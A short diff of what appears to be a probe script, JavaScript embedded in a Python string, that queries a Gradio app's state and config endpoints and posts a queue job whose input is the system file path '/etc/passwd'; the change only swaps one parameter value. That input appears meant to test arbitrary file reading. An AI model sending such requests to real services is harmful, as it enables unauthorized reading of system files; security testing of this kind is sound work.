@@ -28,7 +28,7 @@ TRIES = """(async () => {
     state: () => fetch(BASE + '/view/state').then(answer => answer.text()),
     config: () => fetch(BASE + '/config').then(answer => answer.text()),
     start: () => fetch(BASE + '/gradio_api/queue/join', {method: 'POST', headers: {'Content-Type': 'text/plain'},
-      body: JSON.stringify({data: ['/etc/passwd', 'a', 'b', 'as fast as possible'], fn_index: 0, session_hash: 'x'})
+      body: JSON.stringify({data: ['/etc/passwd', 'a', 'b', 'free'], fn_index: 0, session_hash: 'x'})
     }).then(answer => answer.text()),
     picture: () => new Promise(resolve => {
       const image = new Image(), canvas = document.createElement('canvas');
